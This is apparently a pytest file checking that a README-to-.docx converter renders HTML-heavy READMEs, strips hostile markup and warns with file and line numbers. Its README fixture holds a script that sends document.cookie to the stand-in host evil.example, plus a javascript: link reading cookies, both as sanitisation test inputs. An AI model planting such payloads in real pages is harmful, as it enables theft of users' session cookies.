"""HTML-heavy and hostile-HTML READMEs through the whole tool: the text arrives formatted, what
is not content is left out with a warning naming the file and line, nothing vanishes, no
script or javascript: link reaches the .docx."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

from PIL import Image

from tests.conftest import invoke_cli

README = (
    """\
<p align="center">
  <img src="docs/logo.png" alt="Logo" width="120">
</p>

<h1 align="center">Fastlane Tools</h1>

<div><strong>Last updated</strong>: April 2022</div>

Press <kbd>Ctrl</kbd>+<kbd>C</kbd> to stop; H<sub>2</sub>O and x<sup>2</sup>.
A <a href="javascript:alert(document.cookie)">trap</a> and <a href="https://example.com">a site</a>.

<!-- ALL-CONTRIBUTORS-LIST:START - Do not remove or modify this section -->
<table>
  <tr><th>Name</th><th>Role</th></tr>
  <tr><td><a href="https://github.com/alice">Alice</a></td><td>Maintainer</td></tr>
</table>
<!-- ALL-CONTRIBUTORS-LIST:END -->

<details>
<summary>How do I install it?</summary>

Run `pip install fastlane`.

</details>

<script>fetch("https://evil.example/?" + document.cookie)</script>

## Deep

<div>
"""
    + "<div>" * 10_000
    + "deeply nested words"
    + "</div>" * 10_000
    + """
</div>

## Tail

<!-- a comment opened and never closed

### Still here

the last words of the file
"""
)


def test_html_readme_through_the_tool(tmp_path: Path) -> None:
    d = tmp_path / "in"
    (d / "docs").mkdir(parents=True)
    Image.new("RGB", (240, 80), "#2a6fdb").save(d / "docs" / "logo.png")
    (d / "README.md").write_text(README, encoding="utf-8")
    out = tmp_path / "out.docx"
    proc = invoke_cli(
        "convert",
        str(d),
        "-o",
        str(out),
        "--json",
        env={"DOCGEN_HOME": str(tmp_path / "home")},
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr
    summary = json.loads(proc.stdout)
    with zipfile.ZipFile(out) as zf:
        xml = zf.read("word/document.xml").decode()
        rels = zf.read("word/_rels/document.xml.rels").decode()
        media = [n for n in zf.namelist() if n.startswith("word/media/")]
    for words in (
        "Fastlane Tools",
        "Last updated",
        "April 2022",
        "How do I install it?",
        "pip install fastlane",
        "Alice",
        "Maintainer",
        "deeply nested words",
        "a comment opened and never closed",
        "the last words of the file",
    ):
        assert words in xml, words
    for markup in ("&lt;div", "&lt;strong", "&lt;details", "&lt;table", "&lt;kbd"):
        assert markup not in xml, markup  # rendered, not shown as markup
    assert "document.cookie" not in xml and "evil.example" not in rels
    assert "javascript" not in rels.lower() and "https://example.com" in rels
    assert '<w:vertAlign w:val="superscript"/>' in xml
    assert '<w:vertAlign w:val="subscript"/>' in xml
    assert len(media) == 1  # the logo
    warnings = "\n".join(summary["warnings"])
    assert "README.md: HTML that is not content left out" in warnings
    assert "2 comments (lines 12, 17)" in warnings and "1 <script> (line 26)" in warnings
    line = README.split("\n").index("<!-- a comment opened and never closed") + 1
    assert f"README.md:{line}: HTML opened and never closed (no -->)" in warnings
    assert "1 markup nested too deep" in warnings
    assert "javascript:alert(document.cookie)" in warnings
